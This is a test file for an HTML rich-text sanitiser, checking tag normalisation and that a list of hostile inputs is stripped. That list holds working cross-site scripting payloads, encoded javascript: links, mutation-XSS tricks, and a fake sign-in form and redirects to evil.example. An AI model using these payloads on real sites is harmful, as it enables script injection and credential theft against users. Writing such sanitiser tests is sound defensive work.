import fc from 'fast-check';
import { expect, test } from 'vitest';
import { toPlainText } from '@idss/domain/announcements/rich-text';
import { loadCleaner } from './clean-rich-text.ts';

const cleanRichText = await loadCleaner();

test.each([
  ['<p>Plan lock by <b>{1}</b>.</p>', '<p>Plan lock by <b>{1}</b>.</p>'],
  ['<strong>a</strong><em>b</em><ins>c</ins>', '<b>a</b><i>b</i><u>c</u>'],
  ['<div>one</div><div>two</div>', '<p>one</p><p>two</p>'],
  ['<h1>Title</h1><h5>Small</h5>', '<h2>Title</h2><h2>Small</h2>'],
  ['a<br/>b<BR>c', 'a<br>b<br>c'],
  ['<ul><li>one<li>two</ul>', '<ul><li>one</li><li>two</li></ul>'],
  ['<li>alone</li>', '<p>alone</p>'],
  ['<p>one<p>two', '<p>one</p><p>two</p>'],
  ['<b>never closed', '<b>never closed</b>'],
  ['<b><i>crossed</b></i>', '<b><i>crossed</i></b>'],
  ['</b>a</p>', 'a'],
  ['1 < 2 & 3 > 2', '1 &lt; 2 &amp; 3 &gt; 2'],
  ['&lt;b&gt; &amp; &nbsp;&ndash;', '&lt;b&gt; &amp; \u00a0–'],
  ['<div>one<div>two</div></div>', '<p>one</p><p>two</p>'],
  ['<p>one</p><p><br></p><p>two</p>', '<p>one</p><p><br></p><p>two</p>'],
  ['<font color="#B80F2A">red</font>', '<span class="ink-red">red</span>'],
  ['<span class="ink-green other">go</span>', '<span class="ink-green">go</span>'],
  ['<span class="MuiDialog-root">x</span>', 'x'],
  ['<span style="position:fixed">x</span>', 'x'],
  [
    '<a href="https://portal.example/a?b=1&c=2" onclick="x()" target=_blank>go</a>',
    '<a href="https://portal.example/a?b=1&amp;c=2">go</a>',
  ],
  ['<a href=mailto:help@portal.example>mail</a>', '<a href="mailto:help@portal.example">mail</a>'],
  [
    '<a href="https://a.example"><a href="https://b.example">b</a></a>',
    '<a href="https://a.example"></a><a href="https://b.example">b</a>',
  ],
])('%s', (given, expected) => {
  expect(cleanRichText(given)).toBe(expected);
});

/** Each of these has run a script, or hidden something, somewhere. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="https://a.example/" style="background:url(javascript:1)" onmouseover="alert(1)">x</a>',
  '<p onclick="alert(1)" style="position:fixed;inset:0">x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<a href="https://a.example/"onmouseover=alert(1)">x</a>',
  '<b/onclick=alert(1)>x</b>',
  '<style>@import "//evil.example"</style>',
  '<details open ontoggle=alert(1)>x</details>',
  '<span class="ink-red" onfocus=alert(1) tabindex=1>x</span>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  `<a ${'"'.repeat(3000)}`,
  '<'.repeat(3000),
] as const;

/** All that a cleaned text may ever contain. */
const allowed =
  /^(?:[^<>]|<\/?(?:p|b|i|u|ul|ol|li|h2)>|<br>|<\/(?:a|span)>|<span class="ink-(?:red|amber|green|blue|grey)">|<a href="(?:https?:\/\/|mailto:)[^"<>\s]+">)*$/;

test.each(hostile)('nothing of %s comes through', (given) => {
  const clean = cleanRichText(given);
  expect(clean).toMatch(allowed);
  expect(clean).not.toMatch(/javascript:|@evil|href="\/\//i);
  expect(cleanRichText(clean)).toBe(clean);
});

test('any cut of a hostile text is as harmless as the whole', () => {
  for (const text of hostile.filter(({ length }) => length < 500))
    for (let cut = 1; cut < text.length; cut += 1)
      for (const part of [text.slice(0, cut), text.slice(cut)]) {
        const clean = cleanRichText(part);
        expect(clean, part).toMatch(allowed);
        expect(cleanRichText(clean), part).toBe(clean);
      }
});

test('cleaning again changes nothing, however the parts are put together', () => {
  const parts = fc.constantFrom(
    ...'<p> </p> <div> </div> <h1> </h1> <ul> <li> </li> </ul> <ol> </ol> <b> </strong> </font> <span> </span>'.split(
      ' ',
    ),
    ...'</a> <br> text &amp; &lt; < > " <script> </script> <!-- --> <svg>'.split(' '),
    '<font color=#006a8e>',
    '<a href="https://a.example">',
  );
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 12 }), (texts) => {
      const clean = cleanRichText(texts.join(''));
      expect(clean).toMatch(allowed);
      expect(cleanRichText(clean)).toBe(clean);
    }),
    { numRuns: 300 },
  );
});

test('the text of what is kept', () => {
  expect(toPlainText(cleanRichText('<p>Plan lock<br>by&nbsp;<b>{1}</b></p><p>1 &lt; 2</p>'))).toBe(
    'Plan lock by {1} 1 < 2',
  );
  expect(toPlainText(cleanRichText('<p>&nbsp;<br></p><script>x</script>'))).toBe('');
});
